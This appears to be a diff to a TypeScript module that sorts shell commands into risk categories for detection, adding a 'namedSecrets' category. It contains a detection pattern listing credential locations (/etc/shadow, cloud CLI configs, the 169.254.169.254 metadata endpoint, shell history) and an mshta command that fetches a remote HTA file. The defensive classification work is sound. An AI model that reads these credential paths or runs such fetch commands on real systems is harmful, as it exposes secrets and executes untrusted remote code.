@@ -4,6 +4,8 @@ import { command, type ShellCommand } from './command.ts';
 const fetch = command('fetch', true);
 const reportedFetch = command('fetch');
 const secrets = command('secrets', true);
+/** Names of places: what tells of a change may speak of them. */
+const namedSecrets = command('secrets');
 const weaken = command('weaken');
 const destroy = command('destroy');
 const approval = command('approval');
@@ -37,7 +39,7 @@ export const MACHINE_COMMANDS: readonly ShellCommand[] = [
     'mshta https://x.example/a.hta',
     'certutil -hashfile a.zip',
   ),
-  secrets(
+  namedSecrets(
     'places where keys are kept',
     '/etc/|.config/|169.254.|auth token|gh auth|.bash_history|.zsh_history|credentials.json',
     /\/etc\/(?:passwd|shadow)\b|~\/\.config\/(?:gcloud|gh|hub|op)\b|\b169\.254\.169\.254\b|\bgh\s+auth\s+token\s*\||\.(?:bash|zsh)_history\b|\bapplication_default_credentials\b/i,
